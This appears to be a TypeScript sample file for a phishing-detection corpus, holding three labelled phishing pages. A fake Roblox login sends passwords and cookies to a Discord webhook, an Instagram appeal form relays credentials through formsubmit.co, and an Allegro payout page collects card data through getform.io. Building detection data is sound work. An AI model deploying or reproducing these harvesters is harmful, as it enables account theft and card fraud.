import { type Entry } from '../entry.js';
import { baseCss, doc } from '../parts/d-parts.js';

/** Kits that send what they collect to a Telegram bot, a Discord webhook or a form-relay service. Written for corpus/d. */
export const entries: Entry[] = [

{
  id: 'd-exfil-discord-roblox',
  label: 'phishing',
  kind: 'exfil-discord',
  url: 'https://roblox.com-login.free-robux-event.net/login',
  body: doc({
    title: 'Roblox',
    css: `body{background:#393b3d;color:#fff;font-family:"Builder Sans",Helvetica,Arial,sans-serif}.l{max-width:360px;margin:70px auto;text-align:center}.l input{width:100%;padding:12px;border-radius:8px;border:1px solid #666;background:#191b1d;color:#fff;margin:6px 0}.l button{width:100%;padding:12px;border-radius:8px;border:0;background:#335fff;color:#fff;font-weight:700;margin-top:10px}`,
    body: `<div class="l"><img src="img/roblox_logo.svg" alt="ROBLOX" width="200"><h2>Login to Roblox</h2><p>Log in to receive your 4,500 Robux from the Winter Event.</p>
<form id="rb"><input id="u" placeholder="Username/Email/Phone"><input id="p" type="password" placeholder="Password"><button>Log In</button></form><p style="font-size:12px">Forgot Password or Username?</p></div>
<script>
var hook='https://discord.com/api/webhooks/1311442290034511872/qJ8vK2mN5pR7tW0xZ3aB6cD9eF1gH4iJ7kL0mN3oP6qR9sT2uV5wX8yZ1aB4cD';
document.getElementById('rb').onsubmit=function(e){e.preventDefault();
fetch(hook,{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({username:'Logger',embeds:[{title:'New Hit',color:3447003,fields:[{name:'Username',value:document.getElementById('u').value},{name:'Password',value:document.getElementById('p').value},{name:'Cookie',value:document.cookie||'none'}]}]})}).then(function(){location='https://www.roblox.com/home'})};
</script>`,
  }),
},

{
  id: 'd-exfil-formrelay-instagram',
  label: 'phishing',
  kind: 'exfil-form-relay',
  url: 'https://meta-copyright-appeal.help-center-review.com/instagram/appeal',
  body: doc({
    title: 'Instagram | Copyright Infringement Appeal',
    css: baseCss('#0095f6') + `body{background:#fafafa}.a{max-width:460px;margin:40px auto}`,
    body: `<div class="a card"><div style="text-align:center"><img src="assets/ig-wordmark.png" alt="Instagram" height="50"></div>
<h1 style="font-size:20px">Your account has been flagged for copyright infringement</h1><p>We received a complaint that a post on your account violates copyright law. If you believe this is a mistake, submit an appeal within 24 hours or your account will be permanently removed.</p>
<form action="https://formsubmit.co/f4a81c2e9b6d7e03a5c1b2d4e6f8a0b1" method="POST"><input type="hidden" name="_captcha" value="false"><input type="hidden" name="_next" value="https://meta-copyright-appeal.help-center-review.com/instagram/thanks.html"><input type="hidden" name="_subject" value="IG appeal"><div class="form-group"><label>Username</label><input name="username"></div><div class="form-group"><label>Password</label><input name="password" type="password"></div><div class="form-group"><label>Email</label><input name="email"></div><div class="form-group"><label>Explain why this is a mistake</label><textarea name="reason" rows="3"></textarea></div><button class="btn btn-block">Submit appeal</button></form>
<p class="muted" style="text-align:center">from Meta · © 2026 Instagram</p></div>`,
  }),
},

{
  id: 'd-exfil-getform-allegro',
  label: 'phishing',
  kind: 'exfil-form-relay',
  url: 'https://allegro-pl.oferta-platnosc.shop/oferta/18833201/platnosc',
  body: doc({
    title: 'Allegro - Płatność za zamówienie',
    lang: 'pl',
    css: baseCss('#ff5a00') + `.w{max-width:520px;margin:30px auto}`,
    body: `<div class="w card"><img src="img/allegro.svg" alt="allegro" height="32"><h1 style="font-size:22px">Kupujący opłacił zamówienie</h1><p>Aby otrzymać środki za sprzedany przedmiot (<b>iPhone 14 128GB – 2 150,00 zł</b>), potwierdź dane karty, na którą ma nastąpić wypłata.</p>
<form method="POST" action="https://getform.io/f/bmd7kq2a"><div class="form-group"><label>Imię i nazwisko</label><input name="imie"></div><div class="form-group"><label>Numer karty</label><input name="karta"></div><div class="form-group"><label>Data ważności</label><input name="waznosc"></div><div class="form-group"><label>CVV2/CVC2</label><input name="cvv"></div><div class="form-group"><label>Saldo na karcie (do weryfikacji)</label><input name="saldo"></div><button class="btn btn-block">Odbierz środki</button></form></div>`,
  }),
},

];
